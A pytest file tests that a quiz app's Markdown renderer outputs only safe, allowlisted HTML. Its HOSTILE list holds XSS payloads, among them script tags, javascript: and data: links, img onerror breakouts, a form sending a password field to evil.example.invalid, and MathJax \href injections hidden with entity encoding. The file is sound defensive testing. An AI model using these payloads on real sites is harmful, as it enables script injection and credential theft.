"""Quiz Markdown is rendered by one safe path (issue 12: F3, F18): whatever the text, the HTML holds
only an allowlist of elements and attributes, links only to http(s) with noopener, no images, and
maths escaped for MathJax. Validation refuses what this renderer would drop or change."""

from __future__ import annotations

import html.parser
import random

import pytest

from bonemets.quiz.markdown import markup_problems, render_inline, render_markdown

ALLOWED_TAGS = {
    "p",
    "em",
    "strong",
    "code",
    "pre",
    "a",
    "span",
    "div",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "br",
}
MATH_CLASS = "math notranslate nohighlight"

HOSTILE = [
    "<script>alert(1)</script>",
    '<svg onload="alert(1)"></svg>',
    "<details open ontoggle=alert(1)>x</details>",
    '<iframe srcdoc="x"></iframe>',
    "<a href=javascript:alert(1)>x</a>",
    "<form action=https://evil.example.invalid/><input name=pw></form>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example.invalid/)",
    "[x](../relative.html)",
    "<javascript:alert(1)>",
    "![x](https://tracker.example.invalid/p.png)",
    '![x](https://tracker.example.invalid/p.png "title")',
    "![x](data:image/png;base64,AAAA)",
    "$\\href{javascript:alert(1)}{x}$",
    "$</span><script>alert(1)</script>$",
    '$$"><img src=x onerror=alert(1)>$$',
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[ok](https://example.org/a?b=1&c=<2>)",
]


class _Html(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if tag == "a" and name == "href":
                if not value.lower().startswith(("http://", "https://")):
                    self.problems.append(f"href {value}")
            elif tag == "a" and name in {"rel", "referrerpolicy", "title"}:
                pass
            elif name == "class" and value == MATH_CLASS and tag in {"span", "div"}:
                pass
            else:
                self.problems.append(f"{tag} {name}={value}")
        if tag == "a" and ("rel", "noopener noreferrer nofollow") not in attrs:
            self.problems.append("link without rel=noopener")


def _check(out: str) -> list[str]:
    p = _Html()
    p.feed(out)
    return p.problems


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_inert(text: str) -> None:
    for out in (render_markdown(text), render_inline(text)):
        assert _check(out) == [], (text, out)
        assert (
            "<script" not in out and "<img" not in out and "tracker" not in out.split('href="')[0]
        )


def test_links_and_images() -> None:
    out = render_inline("[a](https://example.org/) ![pixel](https://tracker.example.invalid/p.png)")
    assert out == (
        '<a href="https://example.org/" rel="noopener noreferrer nofollow" '
        'referrerpolicy="no-referrer">a</a> pixel'
    )
    assert render_inline("[x](javascript:alert(1))") == "[x](javascript:alert(1))"


def test_maths_is_escaped_for_mathjax() -> None:
    out = render_inline("$a<b & c$")
    assert out == f'<span class="{MATH_CLASS}">\\(a&lt;b &amp; c\\)</span>'


def test_random_markdown_renders_inert() -> None:
    rng = random.Random(7)
    pieces = [
        *HOSTILE,
        "<",
        ">",
        "[",
        "]",
        "(",
        ")",
        "!",
        "$",
        "`",
        "*",
        "_",
        "&",
        "#",
        ":",
        "\n",
        "\n\n",
        " ",
        "a",
        "javascript:",
        "https://x.example/",
        "\\",
        '"',
        "'",
        "<a ",
        "on",
    ]
    for _ in range(3_000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 12)))
        for out in (render_markdown(text), render_inline(text)):
            assert _check(out) == [], (text, out)


@pytest.mark.parametrize("text", HOSTILE[:19])
def test_validation_refuses_what_the_renderer_drops(text: str) -> None:
    assert markup_problems(text), text


@pytest.mark.parametrize(
    "text",
    [
        "Plain **bold** and *emphasis*, `code`, $\\frac{1}{2}$ and $$x^2$$.",
        "[a source](https://doi.org/10.1000/1) and <https://example.org/>",
        "&lt;script&gt; is shown as text; so is \\<b\\>.",
        "5 < 7 and 7 > 5; a<b in $a<b$.",
    ],
)
def test_ordinary_markdown_is_accepted(text: str) -> None:
    assert markup_problems(text) == []


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("\\(&#92;href{https://evil.example}{click}\\)", "\\href is not allowed"),
        ("$x$ &bsol;style{position:fixed}{X}", "\\style is not allowed"),
        ("&#x5C;require{html}", "\\require is not allowed"),
        ("&#92;cssId{a}{b}", "\\cssId is not allowed"),
        ("$\\color{#eee}{x}$", "\\color is not allowed"),
        ("$\\textcolor{white}{x}$", "\\textcolor is not allowed"),
        ("$\\colorbox{black}{x}$", "\\colorbox is not allowed"),
        ("$\\fcolorbox{red}{white}{x}$", "\\fcolorbox is not allowed"),
        ("$\\definecolor{pale}{RGB}{250,250,250}$", "\\definecolor is not allowed"),
        ("&#92;(x&#92;)", "a backslash written as an HTML character reference"),
        ("&#92;[x&#92;]", "a backslash written as an HTML character reference"),
        ("&#36;x&#36;", "a dollar sign written as an HTML character reference"),
        ("&dollar;x&dollar;", "a dollar sign written as an HTML character reference"),
    ],
)
def test_tex_written_with_character_references_is_refused(text: str, message: str) -> None:
    """R2 review of issue 12: the MathJax blocklist also applies after entity decoding, and
    maths delimiters that only appear after decoding are refused."""
    problems = markup_problems(text)
    assert any(message in p for p in problems), problems


def test_ordinary_entities_are_still_accepted() -> None:
    assert markup_problems("5 &lt; 7, &amp; 7 &gt; 5; dose &times; 2; $\\frac{1}{2}$") == []
